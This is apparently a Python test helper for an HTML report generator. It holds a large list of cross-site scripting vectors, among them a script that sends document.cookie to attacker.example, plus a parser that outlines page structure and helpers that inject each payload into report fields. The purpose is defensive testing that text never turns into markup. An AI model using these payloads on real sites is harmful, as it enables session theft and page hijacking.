"""Texts that try to become markup, and a parser that tells what a page is made of."""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

_SCRIPTS = (
    "alert(1)",
    "fetch('http://attacker.example/'+document.cookie)",
    "document.body.innerHTML=''",
    "top.location='http://attacker.example'",
)
_VECTORS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</pre></code></table><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "<img src=x onerror={}>",
    '" onmouseover="{}',
    "' onfocus='{}' autofocus='",
    "<svg onload={}>",
    "</svg><svg><script>{}</script>",
    "<svg><foreignObject><iframe srcdoc='<script>{}</script>'>",
    "</desc></title><a xlink:href='javascript:{}'><text>x</text></a>",
    '<a href="javascript:{}">x</a>',
    "<math><mi href='javascript:{}'>",
    "<iframe src='javascript:{}'></iframe>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='http://attacker.example/'>{}",
    "<link rel=stylesheet href='http://attacker.example/{}'>",
    "<style>*{{background:url(http://attacker.example/{})}}</style>",
    "<details open ontoggle={}>",
    "<template><script>{}</script></template>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<noscript><p title='</noscript><script>{}</script>'>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "&quot; onload=&quot;{}",
    "\x00<scr\x00ipt>{}</script>",
    "<script\x0c>{}</script\x0b>",
    "\ud800<script>{}</script>\udfff",
    "\u202e<script>{}</script>\u2066",
    "\ufeff<script>{}</script>\uffff",
    "{{{{ '{}' }}}} ${{{}}} <%= {} %>",
    "<input type=radio name=axis checked onclick={}>",
    "<form action=http://attacker.example><button>{}</button></form>",
    "`-{}-`",
    "\u2028<b>{}</b>\u2029",
    "<x a=\"'>{}<y b='\">",
    "]]>--></desc><set attributeName=href to=javascript:{}>",
    "url(#hatch);}}</style><svg/onload={}>",
    "x' data-order='NaN' style='position:fixed{}",
    "<audio src=x onerror={}></audio><video poster=http://attacker.example/>",
    "<marquee onstart={}>x</marquee>",
    "<portal src=http://attacker.example/{}>",
    "<image href=http://attacker.example/{}>",
    '<p dir=rtl lang="\'><script>{}</script>">',
)
PAYLOADS = tuple(vector.format(*[script] * vector.count("{}")) for vector in _VECTORS for script in _SCRIPTS)
# Texts whose spelling the model fixes, so that nothing can be put into them.
FIXED_KEYS = frozenset({"role"})

Path = tuple[str | int, ...]
Shape = list[tuple[str, tuple[str, ...]]]


class Outline(HTMLParser):
    """What a page is made of: its elements in order with their attribute names, and every address in it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.shape: Shape = []
        self.addresses: list[str] = []
        self.ids: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append((tag, tuple(sorted(name for name, _ in attrs))))
        values = dict(attrs)
        self.addresses += [values[name] or "" for name in ("href", "src", "action", "poster", "data") if name in values]
        if values.get("id"):
            self.ids.append(values["id"] or "")

    def handle_endtag(self, tag: str) -> None:
        self.shape.append(("/" + tag, ()))

    def handle_comment(self, data: str) -> None:
        self.shape.append(("!--", (data,)))


def outline(page: str) -> Outline:
    """The outline of a page."""
    parser = Outline()
    parser.feed(page)
    parser.close()
    return parser


def text_places(data: Any, path: Path = ()) -> Iterator[Path]:
    """The paths of all texts in the data of a report."""
    if isinstance(data, dict):
        for key, value in data.items():
            if key not in FIXED_KEYS:
                yield from text_places(value, (*path, key))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            yield from text_places(value, (*path, index))
    elif isinstance(data, str) and data:
        yield path


NAMED = (
    ("measures", "bits_per_byte"),
    ("measures", "tasks"),
    ("measures", "characters_per_token", "sets"),
    ("corpus", "dropped_samples"),
    ("corpus", "language_shares"),
    ("corpus", "funnel", 1, "dropped"),
    ("decisions", 0, "arms", 0, "values"),
    ("versions",),
)


def with_text(data: Any, path: Path, text: str) -> Any:
    """The data with the text at one path replaced."""
    if not path:
        return text
    copy = dict(data) if isinstance(data, dict) else list(data)
    copy[path[0]] = with_text(data[path[0]], path[1:], text)
    return copy


def with_name(data: Any, path: Path, name: str) -> Any:
    """The data with the first key of the table at a path renamed."""
    if not path:
        first = next(iter(data))
        return {name if key == first else key: value for key, value in data.items()}
    copy = dict(data) if isinstance(data, dict) else list(data)
    copy[path[0]] = with_name(data[path[0]], path[1:], name)
    return copy
